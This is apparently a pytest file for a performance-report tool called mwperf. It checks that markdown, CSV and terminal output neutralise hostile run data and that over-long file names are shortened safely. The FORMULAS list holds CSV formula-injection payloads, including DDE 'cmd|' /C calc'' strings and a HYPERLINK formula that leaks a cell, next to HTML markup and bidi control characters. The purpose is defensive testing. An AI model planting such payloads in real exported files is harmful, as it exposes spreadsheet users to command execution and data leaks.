"""What the exports and the terminal make of a hostile run directory (issue
37's probe; :func:`hostile_rundir.hostile_rundir`: markup, an OSC escape and
U+202E RIGHT-TO-LEFT OVERRIDE in every string field): Markdown passed raw
HTML; results.csv wrote ``=HYPERLINK(...)`` as it came (a formula when the
file is opened in a spreadsheet); ``export --format perftest-csv`` failed
with "File name too long" on a long middleware name; report and compare
printed U+202E raw (a terminal shows the text after it reversed)."""

import csv
import json
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from conftest import FIXTURES
from hostile_rundir import hostile_rundir
from mwperf.cli.main import main


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "run"
    hostile_rundir(path)
    return path


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)


def test_markdown_renders_the_run_directorys_markup_as_text(hostile, capsys):
    assert main(["report", str(hostile), "--format", "md"]) == 0
    text = capsys.readouterr().out
    assert "<img src=x" in text.replace("\\<", "<")  # the markup is there, as text
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)  # raw HTML allowed, as GitHub
    tags = Tags()
    tags.feed(html)
    assert set(tags.tags) <= {"h3", "p", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "em", "strong"}, \
        sorted(set(tags.tags))


@pytest.mark.parametrize("command", [["report", "{}"], ["compare", "{}", "{}"], ["report", "{}", "--format", "md"]])
def test_the_terminal_gets_no_control_nor_bidi_character(hostile, capsys, command):
    main([part.format(hostile) for part in command])
    out, err = capsys.readouterr()
    assert "\\u202e" in out  # shown, escaped
    for raw in ("\u202e", "\x1b", "\x07"):
        assert raw not in out + err


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_results_csv_writes_no_formula(tmp_path):
    lines = (FIXTURES / "results.jsonl").read_text().splitlines()[:len(FORMULAS)]
    records = [json.loads(l) for l in lines]
    for record, formula in zip(records, FORMULAS):
        record["mw"] = formula
        record["run_id"] = formula
    (tmp_path / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    assert main(["report", str(tmp_path)]) == 0
    rows = list(csv.DictReader((tmp_path / "results.csv").open(newline="")))
    assert [(r["mw"], r["run_id"]) for r in rows] == [("'" + f, "'" + f) for f in FORMULAS]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or float(value) < 0  # a negative number stays a number


def test_perftest_csv_of_long_names_writes_files_a_file_system_takes(tmp_path, capsys):
    records = [json.loads(l) for l in (FIXTURES / "results.jsonl").read_text().splitlines()[:2]]
    records[0]["mw"] = "m" * 300 + "a"
    records[1]["mw"] = "m" * 300 + "b"  # two tables whose names differ only past the cut
    records[1]["mode"] = records[0]["mode"]
    (tmp_path / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    assert main(["export", str(tmp_path), "--format", "perftest-csv"]) == 0
    names = sorted(p.name for p in (tmp_path / "perftest").iterdir())
    assert len(names) == 2 and all(len(n) <= 164 for n in names), names
